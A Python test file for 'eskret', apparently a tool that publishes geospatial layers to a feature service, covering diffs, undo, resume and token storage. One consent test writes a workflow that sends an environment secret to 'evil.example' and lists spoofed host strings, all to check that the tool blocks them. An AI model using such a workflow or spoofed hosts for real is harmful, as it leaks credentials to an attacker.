"""Publishing in a workflow and on the command line: the difference first, then the push, and back again."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Generator
from contextlib import contextmanager
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import httpx
import keyring
import keyring.backend
import keyring.errors
import numpy as np
import pyarrow as pa
import pyogrio
import pytest
import shapely
import typer

from eskret.core.layer import Layer
from eskret.errors import InputError
from eskret.formats import geopackage
from eskret.practice_server import PracticeServer
from eskret.practice_server.faults import Faults
from eskret.services import features, journal, practice, tokens
from eskret.workflow.model import document
from eskret.workflow.run import consent
from eskret.workflow.run.rehearsal import rehearse
from tests.conftest import TOKEN
from tests.test_cli import call

Rows = dict[str, dict[str, Any]]
BEDS: Rows = {
    f"OS-{n:03d}": {
        "ha": n / 4,
        "pots": n,
        "worked": n % 2 == 0,
        "granted": date(2031, 1, n),
        "bottom": ["sand", None, "Røck"][n % 3],
        "seen": datetime(2031, 9, n, 6, 40, 0, 250_000, tzinfo=UTC),
    }
    for n in range(1, 13)
}


def save(folder: Path, rows: Rows, move: float = 0.0) -> None:
    """The beds as a GeoPackage, 100 m squares in a row; the third one moved."""
    path = folder / "beds.gpkg"
    path.unlink(missing_ok=True)
    table = pa.Table.from_pylist([{"bed": k, **v} for k, v in rows.items()])
    x = np.array([543_000 + 500 * int(k[-3:]) + (move if k == "OS-003" else 0) for k in rows])
    with geopackage.writing(path) as container:
        container.add(Layer("beds", table, shapely.box(x, 5_200_000, x + 100, 5_200_100), "EPSG:32626"), "beds")


@pytest.fixture
def project(tmp_path: Path, server: PracticeServer, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workflow that publishes beds, and the token in the environment."""
    monkeypatch.setenv("BEDS_TOKEN", TOKEN)
    save(tmp_path, BEDS)
    path = tmp_path / "publish.toml"
    path.write_text(
        f"""eskret = 1
title = "Beds online"

[[steps]]
id = "beds"
use = "load"
files = ["beds.gpkg"]

[[steps]]
id = "copy"
use = "save"
from = "beds"
to = "out/copy.geojson"

[[steps]]
id = "online"
use = "publish"
from = "beds"
service = "{server.address}"
dataset = "beds"
key = ["bed"]
create = true
token_from = "BEDS_TOKEN"
""",
        encoding="utf-8",
    )
    return path


def published(server: PracticeServer) -> Rows:
    """What GDAL reads from the service, by key."""
    _, table = pyogrio.read_arrow(f"OAPIF:{server.address}/collections/beds")
    rows = table.drop_columns([n for n in ("id", "wkb_geometry", "geometry", "OGC_FID") if n in table.column_names])
    return {r.pop("bed"): r for r in rows.to_pylist()}


def test_a_quarter_and_the_next_one(server: PracticeServer, project: Path) -> None:
    """GDAL is the independent client: the same features before and after."""
    assert call("publish", project)[0] == 2  # nobody is there to be asked
    assert features.datasets(server.address) == []
    code, out, _ = call("publish", project, "--resume")
    assert code == 0 and "sent (12 added, 0 changed, 0 removed" in out
    first = published(server)
    assert {k: v["ha"] for k, v in first.items()} == {k: v["ha"] for k, v in BEDS.items()}
    assert {k: v["bottom"] for k, v in first.items()} == {k: v["bottom"] for k, v in BEDS.items()}
    told = features.items(server.address, "beds", where={"bed": "OS-003"}).features[0]["properties"]
    assert (told["worked"], told["granted"], told["seen"]) == (False, "2031-01-03", "2031-09-03T06:40:00.250000Z")

    code, out, _ = call("publish", project, "--yes")
    assert code == 0 and "'beds' is as it should be: 12 features, nothing to send" in " ".join(out.split())
    rows: Rows = {k: v for k, v in BEDS.items() if k not in ("OS-001", "OS-012")}
    rows["OS-002"] = {**rows["OS-002"], "bottom": "mud", "pots": 7}
    rows["OS-020"] = {**BEDS["OS-001"], "ha": 5.0}
    save(project.parent, rows, move=3.0)
    code, out, _ = call("publish", project, "--rehearse")
    assert code == 0 and "Nothing was written and nothing was sent." in out and published(server) == first
    assert "1 to add to 'beds', 2 to change, 2 to remove, 8 as they are" in " ".join(out.split())
    code, out, _ = call("publish", project, "-y", "--quiet")
    assert (code, out) == (0, "") and published(server).keys() == rows.keys()
    assert published(server)["OS-002"]["bottom"] == "mud" and published(server)["OS-020"]["ha"] == 5.0
    assert call("publish", project, "--undo")[0] == 0 and published(server) == first
    assert call("publish", project, "--resume")[0] == 1  # nothing is left to complete
    assert call("publish", project, "--yes")[0] == 0 and published(server).keys() == rows.keys()
    code, out, _ = call("publish", project, "--history", "--json")
    assert [p["state"] for p in json.loads(out)] == ["pushed", "undone", "pushed"]
    assert "taken back" in call("publish", "--history")[1] and TOKEN not in call("publish", "--history", "--json")[1]


def test_the_difference_is_a_layer_with_accounts(server: PracticeServer, project: Path) -> None:
    call("publish", project, "--yes")
    rows: Rows = {k: v for k, v in BEDS.items() if k != "OS-005"}
    rows["OS-002"] = {**rows["OS-002"], "bottom": "mud"}
    rows["OS-030"] = {**BEDS["OS-001"], "ha": None}
    save(project.parent, rows, move=4.0)
    text = project.read_text() + '\n[[steps]]\nid = "kept"\nuse = "save"\nfrom = "online"\nto = "out/difference.gpkg"\n'
    project.write_text(text)
    code, out, _ = call("run", project, "--json")
    assert code == 0
    told = json.loads(out)
    assert told["pushes"] == [
        {
            "push": told["pushes"][0]["push"],
            "service": server.address,
            "dataset": "beds",
            "step": "online",
            "added": 1,
            "changed": 2,
            "removed": 1,
            "unchanged": 9,
        }
    ]
    step = next(s for s in told["steps"] if s["id"] == "online")
    assert [(r["reason"], r["count"]) for r in step["inputs"][0]["set_aside"]] == [("is published as it is", 9)]
    assert step["inputs"][1]["layer"] == "beds" and step["inputs"][1]["rows"] == 12
    layer = geopackage_rows(project.parent / "out" / "difference.gpkg")
    assert {r["bed"]: (r["change"], r["changed_fields"], r["was"]) for r in layer} == {
        "OS-030": ("added", "", ""),
        "OS-002": ("changed", "bottom", "bottom = Røck"),
        "OS-003": ("changed", "shape", ""),
        "OS-005": ("removed", "", ""),
    }
    moved = next(r["moved_m"] for r in layer if r["bed"] == "OS-003")
    assert moved == pytest.approx(4.0 / 0.99963, abs=0.02)  # 4 m in the plane, by its scale there


def geopackage_rows(path: Path) -> list[dict[str, Any]]:
    return pyogrio.read_dataframe(path, read_geometry=False).to_dict("records")


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ('key = ["bed"]', "name the fields of a key"),
        ('key = ["other"]', "there is no field 'other'"),
        ("create = true", "There is no dataset 'beds'. Check its name"),
        ('token_from = "BEDS_TOKEN"', ""),
        ("service =", "the service does not answer"),
    ],
)
def test_a_rehearsal_says_what_stands_in_the_way(server: PracticeServer, project: Path, change: str, says: str) -> None:
    text = project.read_text()
    text = {
        'key = ["bed"]': text.replace('key = ["bed"]\n', ""),
        'key = ["other"]': text.replace('["bed"]', '["other"]'),
        "create = true": text.replace("create = true\n", ""),
        'token_from = "BEDS_TOKEN"': text.replace('token_from = "BEDS_TOKEN"\n', ""),
        "service =": text.replace(server.address, "http://127.0.0.1:9"),
    }[change]
    project.write_text(text)
    found = rehearse(document.read(project), workflow=project)
    assert [says in f.text for f in found.errors] == ([True] if says else [])
    assert journal.pushes() == []


def test_fields_that_do_not_fit_are_named_before_anything_is_sent(server: PracticeServer, project: Path) -> None:
    call("publish", project, "--yes")
    rows = {k: {**v, "pots": str(v["pots"]), "owner": "K. Row"} for k, v in BEDS.items()}
    for row in rows.values():
        del row["ha"]
    save(project.parent, rows)
    texts = " | ".join(f.text for f in rehearse(document.read(project), workflow=project).findings)
    assert "beds: 'pots' is text here and integer in 'beds'." in texts
    assert "owner is not among the fields of 'beds' yet" in texts
    assert "the layer has no ha, which 'beds' has; it stays as it is there" in texts
    assert "'beds' has 12 features there" in texts and "brought from WGS 84 / UTM zone 26N to WGS 84" in texts
    code, _, err = call("publish", project, "--yes")
    assert code == 1 and "'pots' is of the type integer here" in err and "--resume completes it, --undo takes it back" in err
    assert call("publish", project, "--undo")[0] == 0
    assert {v["ha"] for v in published(server).values()} == {v["ha"] for v in BEDS.values()}


def test_what_cannot_be_told_apart_is_set_aside(server: PracticeServer, project: Path) -> None:
    save(project.parent, BEDS)
    path = project.parent / "beds.gpkg"
    table = pa.table({"bed": ["A", "A", None, "B", " B ", "C"], "ha": [1.0, 2, 3, 4, 5, 6]})
    path.unlink()
    with geopackage.writing(path) as container:
        container.add(Layer("beds", table, shapely.points(np.arange(6) + 543_000.0, 5_200_000), "EPSG:32626"), "beds")
    code, out, _ = call("publish", project, "--yes")
    assert code == 0 and "5 · its key is empty or not its own" in out
    assert [f["properties"]["bed"] for f in features.items(server.address, "beds").features] == ["C"]


def test_a_failed_run_prepares_nothing_and_a_later_one_outdoes_what_was_not_sent(server: PracticeServer, project: Path) -> None:
    assert call("run", project)[0] == 0
    first = [p.id for p in journal.pushes(project)]
    assert len(first) == 1 and features.datasets(server.address) == []
    assert call("run", project)[0] == 0
    second = [p.id for p in journal.pushes(project)]
    assert len(second) == 1 and second != first
    text = project.read_text() + '\n[[steps]]\nid = "sure"\nuse = "check"\nfrom = "online"\nthat = "count"\nmost = 3\n'
    project.write_text(text)
    assert call("run", project)[0] == 3
    assert [p.id for p in journal.pushes()] == second
    assert len(list(journal.pushes_folder().iterdir())) == 1


def test_a_killed_push_is_completed_by_another_process(server: PracticeServer, project: Path) -> None:
    server.set_faults(Faults(slow=0.15))
    process = subprocess.Popen([sys.executable, "-m", "eskret", "publish", str(project), "--yes"], stdout=subprocess.DEVNULL)
    until = time.monotonic() + 30
    while time.monotonic() < until and not any(p.state == "sending" for p in journal.pushes()):
        time.sleep(0.02)
    time.sleep(0.8)
    process.kill()
    process.wait()
    server.set_faults(Faults())
    there = len(features.items(server.address, "beds").features)
    assert [p.state for p in journal.pushes()] == ["sending"] and there < 12
    assert "cut short" in call("publish", "--history")[1]
    code, out, _ = call("publish", project, "--resume")
    assert code == 0 and "sent (12 added" in out and published(server).keys() == BEDS.keys()


def test_somebody_elses_edit_is_shown_and_settled(server: PracticeServer, project: Path) -> None:
    call("publish", project, "--yes")
    save(project.parent, {k: {**v, "bottom": "mud"} for k, v in BEDS.items()})
    call("run", project)
    one = features.items(server.address, "beds", where={"bed": "OS-005"}).features[0]
    url = f"{server.address}/collections/beds/items/{one['id']}"
    httpx.patch(url, json={"properties": {"bottom": "theirs"}}, headers={"Authorization": f"Bearer {TOKEN}"})
    code, out, _ = call("publish", project, "--resume")
    assert code == 1 and "OS-005: somebody else changed it" in out and published(server)["OS-005"]["bottom"] == "theirs"
    code, out, _ = call("publish", project, "--resume", "--theirs", "leave")
    assert code == 0 and "1 feature stayed as somebody else made them" in out
    assert {k: v["bottom"] for k, v in published(server).items()} == {k: "mud" if k != "OS-005" else "theirs" for k in BEDS}


class Ring(keyring.backend.KeyringBackend):
    """A keyring in memory."""

    priority = 1  # type: ignore[assignment]

    def __init__(self) -> None:
        self.held: dict[tuple[str, str], str] = {}

    def get_password(self, service: str, username: str) -> str | None:
        return self.held.get((service, username))

    def set_password(self, service: str, username: str, password: str) -> None:
        self.held[service, username] = password

    def delete_password(self, service: str, username: str) -> None:
        del self.held[service, username]


def test_tokens_come_from_the_keyring_and_stay_there(
    server: PracticeServer, project: Path, monkeypatch: pytest.MonkeyPatch, own_data: Path
) -> None:
    ring = Ring()
    monkeypatch.setattr(keyring, "get_keyring", lambda: ring)
    for name in ("get_password", "set_password", "delete_password"):
        monkeypatch.setattr(keyring, name, getattr(ring, name))
    project.write_text(project.read_text().replace('token_from = "BEDS_TOKEN"\n', ""))
    code, _, err = call("publish", project, "--yes")
    assert code == 1 and "it wants to know who you are" in err
    tokens.keep(f"{server.address}/deep/down", TOKEN)
    assert list(ring.held.values()) == [TOKEN]
    assert call("publish", project, "--yes")[0] == 0 and len(published(server)) == 12
    for file in [*own_data.rglob("*"), *project.parent.glob("*.*"), *(project.parent / "out").rglob("*")]:
        assert not file.is_file() or TOKEN.encode() not in file.read_bytes(), file
    assert tokens.token_for("https://elsewhere.example") == ""
    assert tokens.forget(server.address) and not tokens.forget(server.address) and ring.held == {}

    def locked(*_: str) -> None:
        raise keyring.errors.KeyringLocked

    monkeypatch.setattr(keyring, "set_password", locked)
    with pytest.raises(InputError, match="the keyring of this desktop cannot be used .* Unlock it, or name"):
        tokens.keep(server.address, "x")


def test_a_stranger_needs_consent_before_it_is_asked_anything(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A workflow from somebody else must not send what an environment variable holds to an address of its own."""
    monkeypatch.setenv("SECRET", "s3cret")
    monkeypatch.setattr(httpx.Client, "stream", lambda *a, **k: pytest.fail("it was asked all the same"))
    path = tmp_path / "theirs.toml"
    path.write_text(
        'eskret = 1\n[[steps]]\nid = "a"\nuse = "fetch"\nservice = "https://evil.example/x"\ndataset = "d"\ntoken_from = "SECRET"\n'
    )
    found = rehearse(document.read(path), workflow=path)
    assert [f.text for f in found.errors] == [
        "This workflow wants to fetch from https://evil.example, and to send it what the environment variable 'SECRET' holds. "
        "Say once that it may: in the window, or with --allow HOST"
    ]
    assert call("run", path)[0] == 2
    consent.allow(path, [], found.unapproved)
    assert not consent.stranger(path, found.unapproved[0])
    for address, changes, variable, asks in (
        ("http://127.0.0.1:1", True, "X", False),
        ("https://a.example", False, "", True),
        ("https://a.example", True, "", True),
        ("https://evil.example/y", False, "SECRET", False),
        ("https://evil.example", True, "SECRET", True),
        ("https://evil.example:8443", False, "SECRET", True),
        ("https://evil.example", False, "OTHER", True),
        ("http://localhost.evil.example", False, "X", True),
        ("http://127.0.0.1@evil.example", False, "X", True),
    ):
        assert consent.stranger(path, consent.ServiceAccess(address, variable, changes)) is asks, address


def test_the_practice_server_by_itself(tmp_path: Path, own_data: Path) -> None:
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "eskret",
            "practice-server",
            "--data",
            str(tmp_path / "data"),
            "--port",
            "0",
            "--answer",
            "503",
            "--answer-from",
            "2",
            "--answer-times",
            "1",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    line = process.stdout.readline()
    address = line.split()[3].rstrip(",")
    running = practice.running()
    assert [r.address for r in running] == [address] and running[0].token not in line
    assert [httpx.get(f"{address}/").status_code for _ in range(3)] == [200, 503, 200]
    assert (own_data / "practice-servers.json").stat().st_mode & 0o077 == 0
    assert httpx.post(f"{address}/collections", json={"id": "x"}).status_code == 401
    assert tokens.token_for(f"{address}/") == running[0].token
    code, _, err = call("practice-server", "--data", tmp_path, "--port", address.rpartition(":")[2])
    assert code == 1 and "cannot be started" in err
    process.terminate()
    assert process.wait(10) == 0 and practice.running() == []


def test_layers_go_to_a_dataset_each_and_two_to_one_are_refused(server: PracticeServer, project: Path) -> None:
    table = pa.table({"bed": ["A", "B"]})
    with geopackage.writing(project.parent / "beds.gpkg") as container:
        container.add(Layer("marks", table, shapely.points([(543_000.0, 5_200_000), (543_100, 5_200_000)]), "EPSG:32626"), "marks")
    text = project.read_text().replace('dataset = "beds"', 'dataset = "{layer}"').replace("copy.geojson", "{layer}.geojson")
    project.write_text(text)
    code, _, _ = call("publish", project, "--yes", "--report", project.parent / "r.html")
    assert code == 0 and {d.id for d in features.datasets(server.address)} == {"beds", "marks"}
    assert "<td>marks</td>" in (project.parent / "r.html").read_text()
    assert sum(p.state == "pushed" for p in journal.pushes()) == 2
    assert call("publish", project, "--undo")[0] == 0  # both, since one run prepared them
    assert {p.state for p in journal.pushes()} == {"undone"} and features.datasets(server.address) == []
    project.write_text(text.replace('dataset = "{layer}"', 'dataset = "all"'))
    found = rehearse(document.read(project), workflow=project)
    assert "Several layers go to the dataset 'all'" in found.errors[0].text


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("publish",), "no workflow is named"),
        (("publish", "FILE", "--resume", "--undo"), "exclude each other"),
        (("publish", "FILE", "--theirs", "burn"), "--theirs cannot be 'burn'"),
        (("publish", "--push", "nothing", "--undo"), "there is no such push"),
        (("publish", "FILE", "--undo"), "there is no push to take back"),
        (("publish", "PLAIN"), "no step of it publishes"),
        (("practice-server", "--answer", "12"), "'answer' must be a status of HTTP"),
    ],
)
def test_what_makes_no_sense_is_said(project: Path, arguments: tuple[str, ...], says: str, own_data: Path) -> None:
    plain = project.parent / "plain.toml"
    plain.write_text('eskret = 1\n[[steps]]\nid = "a"\nuse = "load"\nfiles = ["beds.gpkg"]\n')
    given = [str(project) if a == "FILE" else str(plain) if a == "PLAIN" else a for a in arguments]
    code, _, err = call(*given)
    assert code in (1, 2) and says in err and err.count("\n") == 1


def test_a_token_is_asked_for_and_kept(monkeypatch: pytest.MonkeyPatch, own_data: Path) -> None:
    ring = Ring()
    for name in ("get_password", "set_password", "delete_password"):
        monkeypatch.setattr(keyring, name, getattr(ring, name))
    from typer.testing import CliRunner

    from eskret.cli import app

    done = CliRunner().invoke(app, ["token", "https://Data.example.org/deep/features"], input="s3cret\n")
    assert done.exit_code == 0 and "s3cret" not in done.output and "https://data.example.org is kept" in done.output
    assert tokens.token_for("https://data.example.org/other") == "s3cret" and tokens.kept() == ["https://data.example.org"]
    assert call("token", "https://data.example.org", "--forget")[1].strip().endswith("is forgotten.")
    assert call("token", "https://data.example.org", "--forget")[1].strip().endswith("is not kept.") and ring.held == {}


def test_the_demos_quarterly_job(demo: Path, server: PracticeServer, capsys: pytest.CaptureFixture[str]) -> None:
    """What ``make demo-run`` does: a quarter, the next one, back, and there again."""
    from eskret.cli import publishing

    counts = []
    for step in publishing.rounds(demo / "publish.toml", demo):
        address = practice.running()[0].address
        with _quiet():
            step()
        found = {d.id: features.items(address, d.id).matched for d in features.datasets(address)}
        counts.append(found.get("leases"))
    assert counts == [412, 412, 415, 412, 415]
    out = " ".join(capsys.readouterr().out.split())
    assert "12 to add to 'leases', 37 to change, 9 to remove, 366 as they are" in out and "taken back (12 added" in out
    assert practice.running() == []


@contextmanager
def _quiet() -> Generator[None, None, None]:
    """A command may end by an exit without an error."""
    try:
        yield
    except typer.Exit as end:
        assert end.exit_code == 0
